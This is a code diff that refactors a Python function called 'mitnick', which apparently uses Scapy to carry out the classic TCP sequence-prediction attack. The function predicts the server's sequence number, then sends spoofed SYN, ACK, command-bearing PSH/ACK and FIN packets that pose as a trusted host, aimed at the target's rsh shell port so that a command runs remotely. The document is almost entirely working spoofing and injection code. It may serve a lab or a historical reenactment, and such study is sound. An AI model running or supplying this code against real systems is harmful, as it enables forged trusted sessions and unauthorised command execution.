@@ -128,16 +128,17 @@ def mitnick(arguments: argparse.Namespace) -> None:
     step = numbers[-1] - numbers[-2]
     predicted = numbers[-1] + step + 1
     name = IP(src=trusted, dst=target)
-    port = {"sport": LOGIN, "dport": SHELL}
-    send(name / TCP(**port, flags="S", seq=1382727010), target)
+
+    def segment(flags: str, seq: int, ack: int = 0) -> Any:
+        return name / TCP(sport=LOGIN, dport=SHELL, flags=flags, seq=seq, ack=ack)
+
+    send(segment("S", 1382727010), target)
     time.sleep(0.25)
-    send(name / TCP(**port, flags="A", seq=1382727011, ack=predicted), target)
+    send(segment("A", 1382727011, predicted), target)
     time.sleep(0.1)
-    data = TCP(**port, flags="PA", seq=1382727011, ack=predicted)
-    send(name / data / COMMAND, target)
+    send(segment("PA", 1382727011, predicted) / COMMAND, target)
     time.sleep(0.5)
-    end = TCP(**port, flags="FA", seq=1382727011 + len(COMMAND), ack=predicted + 1)
-    send(name / end, target)
+    send(segment("FA", 1382727011 + len(COMMAND), predicted + 1), target)
     time.sleep(0.2)
 
 
